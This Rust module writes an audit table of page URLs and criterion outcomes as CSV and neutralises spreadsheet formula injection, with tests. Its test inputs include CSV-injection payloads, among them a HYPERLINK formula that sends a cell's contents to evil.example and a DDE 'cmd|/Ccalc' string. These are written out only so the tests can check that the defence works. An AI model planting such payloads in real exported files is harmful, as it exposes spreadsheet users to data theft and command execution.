//! The table as comma-separated values (RFC 4180), in UTF-8 with a byte order mark, by which spreadsheets recognise the encoding.
//!
//! A text that a spreadsheet would take for a formula gets an apostrophe
//! (<https://owasp.org/www-community/attacks/CSV_Injection>), also where it becomes a cell of its own because the file is opened with
//! another separator. Every cell that is no number is quoted.

use alloc::string::{String, ToString};
use alloc::vec;
use alloc::vec::Vec;

use csv_core::{QuoteStyle, Terminator, WriteResult, Writer, WriterBuilder};

use crate::{ColumnKind, Matrix, Row};

/// The separator between two cells.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Separator {
    /// As in RFC 4180.
    #[default]
    Comma,
    /// As spreadsheets expect if the comma is the decimal sign, as in French and Spanish.
    Semicolon,
}

/// A cell of a file.
#[derive(Debug, Clone, PartialEq)]
pub enum Field {
    /// Text, which no spreadsheet takes for a formula.
    Text(String),
    /// A number, with the decimal sign that goes with the separator; an empty cell for none.
    Number(Option<f64>),
}

/// A file of these rows, the header first.
#[must_use]
pub fn file(rows: impl IntoIterator<Item = Vec<Field>>, separator: Separator) -> Vec<u8> {
    let mut file = File::new(separator);
    for row in rows {
        let cell = |field: &Field| match field {
            Field::Text(text) => harmless(text),
            Field::Number(value) => value.map(|value| number(value, separator)).unwrap_or_default(),
        };
        file.row(&row.iter().map(cell).collect::<Vec<String>>());
    }
    file.finish()
}

impl Matrix {
    /// The file: the heads, and a row for each page. Each criterion has a column for its outcome, one for its number if it has
    /// numbers, and one for the count of places. If the separator is a semicolon, numbers have a decimal comma.
    #[must_use]
    pub fn to_csv(&self, separator: Separator) -> Vec<u8> {
        let heads = self.heads.iter().map(|head| Field::Text(head.clone())).collect();
        file(core::iter::once(heads).chain(self.rows.iter().map(|row| self.cells(row))), separator)
    }

    fn cells(&self, row: &Row) -> Vec<Field> {
        let mut cells = vec![Field::Text(row.url.clone()), Field::Number(row.score)];
        for column in &self.columns {
            let cell = row.cells.get(&column.id);
            cells.push(Field::Text(self.outcomes.of(cell).to_string()));
            if column.kind == ColumnKind::Number {
                cells.push(Field::Number(cell.and_then(|cell| cell.value)));
            }
            cells.push(Field::Number(cell.map(|cell| f64::from(cell.count))));
        }
        cells
    }
}

fn number(value: f64, separator: Separator) -> String {
    let text = value.to_string();
    if separator == Separator::Semicolon { text.replace('.', ",") } else { text }
}

/// A text that no spreadsheet takes for a formula, or for a cell with a formula behind a separator: each sign that would begin one
/// gets an apostrophe before it.
fn harmless(text: &str) -> String {
    let mut safe = String::with_capacity(text.len());
    let mut may_begin = true;
    for c in text.chars() {
        let is_sign = matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠');
        if may_begin && is_sign {
            safe.push('\'');
        }
        safe.push(c);
        let separates = matches!(c, ',' | ';' | '|' | '\t' | '\n' | '\r');
        // What is not seen before a sign does not keep a spreadsheet from taking it for the first one.
        let is_unseen =
            c == '"' || c.is_whitespace() || c.is_control() || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}');
        may_begin = separates || may_begin && is_unseen;
    }
    safe
}

/// A file being written.
struct File {
    writer: Writer,
    bytes: Vec<u8>,
}

impl File {
    fn new(separator: Separator) -> Self {
        let delimiter = if separator == Separator::Semicolon { b';' } else { b',' };
        let writer =
            WriterBuilder::new().delimiter(delimiter).terminator(Terminator::CRLF).quote_style(QuoteStyle::NonNumeric).build();
        Self { writer, bytes: b"\xEF\xBB\xBF".to_vec() }
    }

    fn row(&mut self, cells: &[String]) {
        for (at, cell) in cells.iter().enumerate() {
            if at > 0 {
                self.put(|writer, out| (writer.delimiter(out), 0));
            }
            let mut left = cell.as_bytes();
            while !left.is_empty() {
                let read = self.put(|writer, out| {
                    let (result, read, written) = writer.field(left, out);
                    ((result, written), read)
                });
                left = left.get(read..).unwrap_or_default();
            }
        }
        self.put(|writer, out| (writer.terminator(out), 0));
    }

    fn finish(mut self) -> Vec<u8> {
        self.put(|writer, out| (writer.finish(out), 0));
        self.bytes
    }

    /// Lets the writer write, again with the same when its room was too small. Returns how much it read in all.
    fn put(&mut self, mut write: impl FnMut(&mut Writer, &mut [u8]) -> ((WriteResult, usize), usize)) -> usize {
        let mut room = [0; 512];
        loop {
            let ((result, written), read) = write(&mut self.writer, &mut room);
            self.bytes.extend_from_slice(room.get(..written).unwrap_or_default());
            if result == WriteResult::InputEmpty || read > 0 {
                return read;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test may stop at the first surprise")]
    extern crate std;

    use super::*;
    use crate::{Cell, Column, Outcomes, Status, Summary, Tally};
    use alloc::collections::BTreeMap;
    use proptest::prelude::*;

    fn matrix(urls: &[&str]) -> Matrix {
        let column = |id: &str, kind, unit: Option<&str>| Column {
            id: id.to_string(),
            label: id.to_string(),
            kind,
            unit: unit.map(str::to_string),
            severity: "low".to_string(),
            effort: "small".to_string(),
            owner: "developer".to_string(),
            advice: None,
        };
        let title = |status, value| ("title-length".to_string(), Cell { status, value: Some(value), count: 1 });
        let row =
            |url: &&str| Row { url: url.to_string(), score: Some(71.5), cells: BTreeMap::from([title(Status::Warn, 72.0)]) };
        let tally = Tally { warn: u32::try_from(urls.len()).unwrap(), ..Tally::default() };
        Matrix {
            columns: vec![
                column("title-length", ColumnKind::Number, Some("characters")),
                column("h1-present", ColumnKind::Status, None),
            ],
            rows: urls.iter().map(row).collect(),
            summary: Summary { by_criterion: BTreeMap::from([("title-length".to_string(), tally)]), worst_pages: Vec::new() },
            heads: ["Page", "Score", "Title", "Title (characters)", "Title (places)", "h1", "h1 (places)"]
                .map(str::to_string)
                .into(),
            outcomes: Outcomes {
                pass: "Passed".to_string(),
                warn: "Warning".to_string(),
                fail: "Failed".to_string(),
                not_applicable: "Not applicable".to_string(),
                not_measured: "Not measured".to_string(),
            },
        }
    }

    fn text(urls: &[&str], separator: Separator) -> String {
        String::from_utf8(matrix(urls).to_csv(separator)).unwrap()
    }

    #[test]
    fn writes_a_file() {
        assert_eq!(
            text(&["https://a.example/x,y"], Separator::Comma),
            "\u{feff}\"Page\",\"Score\",\"Title\",\"Title (characters)\",\"Title (places)\",\"h1\",\"h1 (places)\"\r\n\
             \"https://a.example/x,y\",71.5,\"Warning\",72,1,\"Not applicable\",\r\n"
        );
        let semicolons = text(&["https://a.example/"], Separator::Semicolon);
        assert!(semicolons.contains("\"https://a.example/\";\"71,5\";\"Warning\";72;1;"), "{semicolons}");
    }

    #[test]
    fn writes_rows() {
        let rows = [
            vec![Field::Text("What".to_string()), Field::Text("Points".to_string())],
            vec![Field::Text("=1+1; tea".to_string()), Field::Number(Some(2.5))],
            vec![Field::Text(String::new()), Field::Number(None)],
        ];
        let text = |separator| String::from_utf8(file(rows.clone(), separator)).unwrap();
        assert_eq!(text(Separator::Comma), "\u{feff}\"What\",\"Points\"\r\n\"'=1+1; tea\",2.5\r\n,\r\n");
        assert_eq!(text(Separator::Semicolon), "\u{feff}\"What\";\"Points\"\r\n\"'=1+1; tea\";\"2,5\"\r\n;\r\n");
    }

    /// Addresses, heads and words of outcomes, opened with the separator of the file and with others: no cell begins like a formula.
    #[test]
    fn no_cell_is_a_formula() {
        for text in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            " =1",
            "＝1",
            "\u{feff}=1",
            "\"=1",
            "=HYPERLINK(\"https://evil.example\")",
            "https://a.example/a;=HYPERLINK('http:evil.example?'&A1);",
            "https://a.example/c;@SUM(1+1)*cmd|'/Ccalc'!A0;",
            "https://a.example/d,=1\t+1|-1",
            "https://a.example/e;\";\"=1",
        ] {
            let mut table = matrix(&[text]);
            table.columns.push(Column { id: text.to_string(), ..table.columns[0].clone() });
            table.heads.extend([text.to_string(), text.to_string()]);
            table.outcomes = Outcomes { warn: text.to_string(), not_applicable: text.to_string(), ..table.outcomes };
            for separator in [Separator::Comma, Separator::Semicolon] {
                let file = String::from_utf8(table.to_csv(separator)).unwrap();
                for delimiter in *b",;\t|" {
                    for quoting in [true, false] {
                        let mut builder = csv::ReaderBuilder::new();
                        builder.delimiter(delimiter).quoting(quoting).has_headers(false).flexible(true);
                        let mut reader = builder.from_reader(file.trim_start_matches('\u{feff}').as_bytes());
                        for row in reader.records().map(Result::unwrap) {
                            let begins = |cell: &str| {
                                let seen = cell.trim_start_matches(|c: char| c == '"' || c == '\u{feff}' || c.is_whitespace());
                                seen.starts_with(['=', '+', '-', '@', '＝'])
                            };
                            let formula = row.iter().find(|cell| begins(cell));
                            assert_eq!(formula, None, "{text:?} in a file with {separator:?}, read by {}", char::from(delimiter));
                        }
                    }
                }
            }
        }
    }

    proptest! {
        #[test]
        fn another_reader_reads_the_same(urls in prop::collection::vec(any::<String>(), 0..4), semicolon in any::<bool>()) {
            let separator = if semicolon { Separator::Semicolon } else { Separator::Comma };
            let urls: Vec<&str> = urls.iter().map(String::as_str).collect();
            let found = text(&urls, separator);
            let delimiter = if semicolon { b';' } else { b',' };
            let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(found.trim_start_matches('\u{feff}').as_bytes());
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            prop_assert_eq!(rows.len(), urls.len());
            for (row, url) in rows.iter().zip(&urls) {
                prop_assert_eq!(row.get(0), Some(&*harmless(url)));
                prop_assert_eq!(row.len(), 7);
            }
        }
    }
}
